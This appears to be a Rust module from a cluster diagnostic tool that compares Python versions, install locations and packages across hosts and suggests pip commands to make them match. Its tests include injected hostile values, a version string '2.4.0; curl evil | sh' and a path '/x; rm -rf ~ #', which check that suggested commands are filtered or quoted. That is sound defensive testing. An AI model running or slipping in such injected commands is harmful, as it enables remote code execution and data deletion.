//! Whether Python and what a run imports are the same everywhere, and whether the modules that are named to it are there.

use std::collections::BTreeMap;

use super::super::compare::{Compared, minor};
use super::super::python::{PACKAGES, Python as Told};
use super::super::{Check, OfImage, Seen, Site, shell_word};
use crate::domain::doctor::Verdict;
use crate::domain::units::counted;

pub(in crate::doctor) struct Python;

/// Of these a difference ends a run, of the others it may.
pub(super) const FATAL: [&str; 4] = ["torch", "tensorflow", "horovod", "jax"];

impl Check for Python {
    const NAME: &'static str = "python";
    const ASKS: &'static str = "are Python, torch, TensorFlow, Horovod and their like the same on all hosts";
    const OF_IMAGE: OfImage = OfImage::Inside;
    /// Absent without a Python; else what it tells, or why it does not.
    type Found = Option<Result<Told, String>>;

    fn look(site: &Site) -> Result<Self::Found, String> {
        let is_there = site.program("python3").or_else(|| site.program("python")).is_some();
        Ok(is_there.then(|| site.python()))
    }

    fn judge(seen: &[Seen<'_, Self::Found>]) -> Vec<Verdict> {
        let told =
            || seen.iter().filter_map(|one| Some((one.host.as_str(), one.found.as_ref()?.as_ref().ok()?)));
        let of_packages = PACKAGES.map(|name| {
            let version = |told: &'_ Told| told.packages.get(name).map_or(NONE, String::as_str).to_owned();
            (name, told().map(|(host, told)| (host, version(told))).collect::<Vec<_>>())
        });
        let mut modules: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
        for (host, told) in told() {
            for name in told.modules.iter().filter(|(_, place)| place.is_some()).map(|(name, _)| name) {
                modules.entry(name).or_default().push(host);
            }
        }
        let all = All {
            modules,
            pythons: Compared::new(told().map(|(host, told)| (host, minor(&told.version)))),
            places: Compared::new(told().map(|(host, told)| (host, told.executable.as_str()))),
            packages: of_packages.each_ref().map(|(name, versions)| {
                (*name, Compared::new(versions.iter().map(|(host, version)| (*host, version.as_str()))))
            }),
        };
        seen.iter().map(|one| judge(one, &all)).collect()
    }
}

type Found = <Python as Check>::Found;

/// In place of a version: there is no such package.
const NONE: &str = "none";

/// What all hosts with a Python have.
struct All<'a> {
    pythons: Compared<'a>,
    /// Where they lie: another conda or venv is another environment, though its versions are the same.
    places: Compared<'a>,
    packages: [(&'static str, Compared<'a>); PACKAGES.len()],
    /// Which hosts have the modules that are looked for.
    modules: BTreeMap<&'a str, Vec<&'a str>>,
}

fn judge(one: &Seen<'_, Found>, all: &All<'_>) -> Verdict {
    let own = match &one.found {
        Some(Ok(own)) => Some(own),
        Some(Err(why)) => {
            let cause = "a Python script is not started here, or ends at once";
            return Verdict::look(why.clone(), cause, "python3 --version there tells more; install it anew");
        }
        None => None,
    };
    let Some(own) = own else {
        if all.pythons.is_empty() {
            return Verdict::unknown("no python3");
        }
        let cause = "a Python script that other hosts run is not started here";
        return Verdict::look(
            "no python3 on the PATH of commands over ssh",
            cause,
            "install python3, or run with --conda or --env-from-login",
        );
    };
    if let Some((name, _)) = own.modules.iter().find(|(_, place)| place.is_none()) {
        return without(name, own, all);
    }
    let mut differ = Vec::new();
    let mut is_fatal = false;
    if let Some(difference) = all.pythons.difference(minor(&own.version)) {
        differ.push(format!("Python {} ({difference})", own.version));
    }
    let mut install = Vec::new();
    for (name, versions) in &all.packages {
        let version = own.packages.get(*name).map_or(NONE, String::as_str);
        if let Some(difference) = versions.difference(version) {
            let wanted = versions.wanted(version).filter(|wanted| *wanted != NONE);
            install.extend(wanted.and_then(|wanted| pip_words(name, version, wanted)));
            is_fatal |= FATAL.contains(name);
            let words = if version == NONE { format!("no {name}") } else { format!("{name} {version}") };
            differ.push(format!("{words} ({difference})"));
        }
    }
    let at = own.executable.clone();
    if let Some(difference) = all.places.difference(&at).filter(|_| differ.is_empty()) {
        return Verdict::look(
            format!("{at} {} ({difference})", own.version),
            "the ranks run in unlike environments: what is installed later in one is not in the other",
            "run in one environment by name: --conda, --venv, or an image",
        );
    }
    if differ.is_empty() {
        let mut all: Vec<String> =
            FATAL.iter().filter_map(|name| Some(format!("{name} {}", own.packages.get(*name)?))).collect();
        all.insert(0, format!("{at} {}", own.version));
        all.extend(
            own.modules.iter().filter_map(|(name, place)| Some(format!("{name} in {}", place.as_ref()?))),
        );
        return Verdict::good(all.join(", "));
    }
    let seen = format!("{at}: {}", differ.join(", "));
    let cause =
        "ranks of one run import other versions: they fail at the import, when they connect, or only later";
    let remedy = if install.is_empty() {
        "use the same Python on all hosts: --conda, --venv, or an image".to_owned()
    } else {
        format!("{} -m pip install {}", shell_word(&at), install.join(" "))
    };
    let verdict = if is_fatal {
        // a run may import none of what differs, and builds of one version may differ in name alone
        Verdict::bad(seen, cause, remedy.clone()).may_run()
    } else {
        Verdict::look(seen, cause, remedy.clone())
    };
    if install.is_empty() { verdict } else { verdict.fixed_there(remedy) }
}

/// A module that is looked for is not there.
fn without(name: &str, own: &Told, all: &All<'_>) -> Verdict {
    let there = all.modules.get(name).map(Vec::as_slice).unwrap_or_default();
    let others = match there {
        [] => "none of the hosts that were asked has it".to_owned(),
        [host] => format!("{host} has it"),
        [host, more @ ..] => format!("{host} and {} have it", counted(more.len() as u64, "more host")),
    };
    let at = &own.executable;
    let cause = "what imports it ends there with ModuleNotFoundError";
    let elsewhere = own.elsewhere.get(name).map(Vec::as_slice).unwrap_or_default();
    let other = own.others.get(name).and_then(|others| others.first());
    if let (None, Some(python)) = (elsewhere.first(), other) {
        let others = if there.is_empty() { String::new() } else { format!(" ({others})") };
        let seen = format!("{at} finds no module {name}, {python} has it{others}");
        let remedy =
            format!("start the script with {}, or with its folder first on PATH", shell_word(python));
        return Verdict::bad(seen, cause, remedy).may_run();
    }
    let Some(environment) = elsewhere.first() else {
        let remedy = "install there what brings it, with that Python's pip; your own code comes with hvtui run --sync FOLDER";
        return Verdict::bad(format!("{at} finds no module {name} ({others})"), cause, remedy).may_run();
    };
    let seen = format!("{at} finds no module {name}, which is in {} ({others})", environment.folder);
    Verdict::bad(seen, cause, format!("run in that environment: hvtui run {} …", environment.option()))
        .may_run()
}

/// What pip is told to install a version in the place of another one, or of none, where it can: builds of torch for one CUDA are in an
/// index of their own.
pub(super) fn pip_words(name: &str, own: &str, wanted: &str) -> Option<String> {
    if !is_version(wanted) {
        return None;
    }
    let Some((_, build)) = wanted.split_once('+') else {
        // a build of a version is that one to `==`, and nothing would be installed
        let is_build = own.strip_prefix(wanted).is_some_and(|rest| rest.starts_with('+'));
        return Some(format!("{name}{}{wanted}", if is_build { "===" } else { "==" }));
    };
    let is_indexed = name == "torch" && ["cu", "cpu", "rocm"].iter().any(|of| build.starts_with(of));
    is_indexed.then(|| format!("{name}=={wanted} --extra-index-url https://download.pytorch.org/whl/{build}"))
}

/// Whether it has no other characters than versions have: it stands in a command that a person may run.
fn is_version(text: &str) -> bool {
    text.chars().all(|c| c.is_ascii_alphanumeric() || ".+!_-".contains(c))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::doctor::environments::Environment;
    use crate::doctor::tests::seen;
    use crate::domain::preflight::Mark;

    fn told(version: &str, packages: &[(&str, &str)]) -> Told {
        let packages =
            packages.iter().map(|(name, version)| ((*name).to_owned(), (*version).to_owned())).collect();
        let (executable, version) = ("/opt/conda/bin/python3".to_owned(), version.to_owned());
        Told { executable, version, packages, ..Told::default() }
    }

    #[test]
    fn no_host_writes_the_command_that_a_person_copies() {
        let told = |executable: &str, torch: &str| {
            let mut told = told("3.11.2", &[("torch", torch)]);
            executable.clone_into(&mut told.executable);
            Some(Ok(told))
        };
        let usual = || told("/usr/bin/python3", "2.4.0; curl evil | sh");
        let verdicts = Python::judge(&seen([usual(), usual(), told("/x; rm -rf ~ #/python3", "2.3.1")]));
        let remedy = verdicts[2].remedy.clone().unwrap();
        assert_eq!(remedy, "use the same Python on all hosts: --conda, --venv, or an image");
        let odd =
            Python::judge(&seen([told("/x; rm -rf ~ #", "2.3.1"), told("/a", "2.4.0"), told("/a", "2.4.0")]));
        assert!(odd[0].remedy.as_ref().unwrap().starts_with("'/x; rm -rf ~ #' -m pip"), "{odd:?}");
    }

    #[test]
    fn a_build_is_installed_from_where_it_is() {
        let of = |wanted| pip_words("torch", "2.4.0+cpu", wanted);
        let index = "torch==2.4.0+cu121 --extra-index-url https://download.pytorch.org/whl/cu121";
        assert_eq!(of("2.4.0+cu121").as_deref(), Some(index));
        assert_eq!(of("2.4.0a0+07cecf4168.nv24.5"), None, "NVIDIA's own is in an image alone");
        assert_eq!(of("2.4.0; curl evil | sh"), None);
        assert_eq!(of("2.4.0").as_deref(), Some("torch===2.4.0"), "2.4.0+cpu is 2.4.0 to pip");
        assert_eq!(of("2.4").as_deref(), Some("torch==2.4"));
        assert_eq!(pip_words("numpy", "2.0.1", "1.26.4").as_deref(), Some("numpy==1.26.4"));
        assert_eq!(pip_words("numpy", NONE, "1.26.4").as_deref(), Some("numpy==1.26.4"));
        let told = |torch: &str| Some(Ok(told("3.11.2", &[("torch", torch)])));
        let verdicts = Python::judge(&seen([told("2.1.0+cu118"), told("2.1.0+cu118"), told("2.1.0")]));
        let index = "torch==2.1.0+cu118 --extra-index-url https://download.pytorch.org/whl/cu118";
        assert!(verdicts[2].remedy.as_ref().unwrap().ends_with(index), "{verdicts:?}");
        let verdicts = Python::judge(&seen([told("2.1.0"), told("2.1.0"), told("2.1.0+cu118")]));
        assert!(verdicts[2].remedy.as_ref().unwrap().ends_with(" torch===2.1.0"), "{verdicts:?}");
    }

    #[test]
    fn a_module_that_a_host_lacks_is_told_with_the_environment_that_has_it() {
        let with = |place: Option<&str>, elsewhere: &[Environment]| {
            let mut told = told("3.11.2", &[]);
            told.modules.insert("apex".to_owned(), place.map(str::to_owned));
            told.elsewhere.insert("apex".to_owned(), elsewhere.to_vec());
            Some(Ok(told))
        };
        let train = Environment { folder: "/opt/conda/envs/train".to_owned(), conda: true };
        let here = || with(Some("/usr/lib/apex/__init__.py"), &[]);
        let verdicts = Python::judge(&seen([here(), with(None, &[train]), with(None, &[])]));
        assert_eq!(verdicts[0].evidence, "/opt/conda/bin/python3 3.11.2, apex in /usr/lib/apex/__init__.py");
        assert_eq!(
            verdicts[1].evidence,
            "/opt/conda/bin/python3 finds no module apex, which is in /opt/conda/envs/train (host-0 has it)"
        );
        let remedy = "run in that environment: hvtui run --conda /opt/conda/envs/train …";
        assert_eq!((verdicts[1].mark, verdicts[1].remedy.as_deref()), (Mark::Bad, Some(remedy)));
        assert!(verdicts[2].remedy.as_ref().unwrap().contains("--sync FOLDER"), "{verdicts:?}");
        let mut other = with(None, &[]).unwrap().unwrap();
        other.others.insert("apex".to_owned(), vec!["/usr/bin/python3".to_owned()]);
        let verdicts = Python::judge(&seen([Some(Ok(other.clone())), here()]));
        let words = "/opt/conda/bin/python3 finds no module apex, /usr/bin/python3 has it (host-1 has it)";
        assert_eq!(verdicts[0].evidence, words);
        let verdicts = Python::judge(&seen([Some(Ok(other))]));
        assert!(verdicts[0].evidence.ends_with("module apex, /usr/bin/python3 has it"), "{verdicts:?}");
        assert!(verdicts[0].remedy.as_ref().unwrap().starts_with("start the script with /usr/bin/python3,"));
        let verdicts = Python::judge(&seen([with(None, &[])]));
        assert!(
            verdicts[0].evidence.ends_with("finds no module apex (none of the hosts that were asked has it)"),
            "{verdicts:?}"
        );
    }

    #[test]
    fn what_differs_is_told_with_what_makes_it_alike() {
        let alike = || Some(Ok(told("3.11.2", &[("torch", "2.4.0"), ("numpy", "1.26.0")])));
        let odd = told("3.11.9", &[("torch", "2.3.1"), ("numpy", "1.26.0")]);
        let verdicts = Python::judge(&seen([alike(), alike(), Some(Ok(odd))]));
        assert_eq!(verdicts[0].evidence, "/opt/conda/bin/python3 3.11.2, torch 2.4.0");
        assert_eq!(verdicts[2].mark, Mark::Bad);
        assert_eq!(verdicts[2].evidence, "/opt/conda/bin/python3: torch 2.3.1 (other hosts have 2.4.0)");
        assert_eq!(verdicts[2].remedy.as_deref(), Some("/opt/conda/bin/python3 -m pip install torch==2.4.0"));
        let old = told("3.9.2", &[("torch", "2.4.0"), ("numpy", "1.26.0")]);
        assert_eq!(Python::judge(&seen([alike(), alike(), Some(Ok(old))]))[2].mark, Mark::Look);
        let without = told("3.11.2", &[("torch", "2.4.0")]);
        let verdict = &Python::judge(&seen([alike(), alike(), Some(Ok(without))]))[2];
        assert_eq!(
            (verdict.mark, verdict.evidence.as_str()),
            (Mark::Look, "/opt/conda/bin/python3: no numpy (other hosts have 1.26.0)")
        );
        let none = &Python::judge(&seen([alike(), None]))[1];
        assert_eq!(
            (none.mark, none.evidence.as_str()),
            (Mark::Look, "no python3 on the PATH of commands over ssh")
        );
        let broken = || Some(Err("libpython3.11.so.1.0: cannot open shared object file".to_owned()));
        assert_eq!(Python::judge(&seen([alike(), broken()]))[1].mark, Mark::Look);
        assert_eq!(Python::judge(&seen([None, None]))[1].mark, Mark::Unknown);
    }
}
